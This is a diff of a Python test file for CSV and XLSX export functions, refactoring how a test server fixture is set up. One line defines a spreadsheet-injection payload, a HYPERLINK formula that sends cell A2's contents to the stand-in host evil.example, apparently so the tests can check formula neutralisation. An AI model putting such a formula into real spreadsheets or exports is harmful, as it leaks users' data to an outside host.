@@ -9,8 +9,7 @@ import pytest
 from openpyxl import load_workbook
 
 from api.exports import csv_response, xlsx_response
-from support.console import console_client, staffed_app
-from support.knowledge import FIXTURE_CARDS, make_settings
+from support.console import console_client, serve_site
 
 HEADERS = ("编号", "金额")
 ROWS = [("WQ2026-00001", 1200.5), ("WQ2026-00002", None)]
@@ -51,10 +50,8 @@ EVIL = '=HYPERLINK("http://evil.example/?"&A2,"点击查看详情")'
 
 @pytest.fixture(scope="module")
 def served(fixture_kb, tmp_path_factory):
-    database_url = f"sqlite:///{tmp_path_factory.mktemp('exports') / 'app.sqlite3'}"
-    with staffed_app(make_settings(fixture_kb.settings.data_dir, cards_dir=FIXTURE_CARDS,
-                                   database_url=database_url)) as (url, _, _):
-        yield url
+    with serve_site(fixture_kb, tmp_path_factory, "exports") as site:
+        yield site.url
 
 
 def chat(client: httpx.Client, *texts: str) -> str:
